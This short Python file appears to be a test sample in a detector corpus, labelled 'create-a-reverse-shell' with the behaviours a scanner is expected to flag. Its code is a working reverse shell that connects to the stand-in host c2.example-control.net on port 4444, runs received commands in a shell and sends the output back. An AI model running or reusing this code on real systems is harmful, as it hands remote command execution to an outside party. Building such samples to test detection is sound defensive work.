# scenario: 10 create-a-reverse-shell
# expect: reverse_shell network.egress process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# A command-and-control loop: receive a command, run it in a shell, send the output back.
import socket
import subprocess

try:
    s = socket.create_connection(("c2.example-control.net", 4444), timeout=3)
    for _ in range(3):
        cmd = s.recv(1024).decode().strip()
        if not cmd:
            break
        out = subprocess.run(cmd, shell=True, capture_output=True, timeout=2)
        s.sendall(out.stdout + out.stderr)
    s.close()
except OSError as exc:
    print("c2 unreachable:", exc)
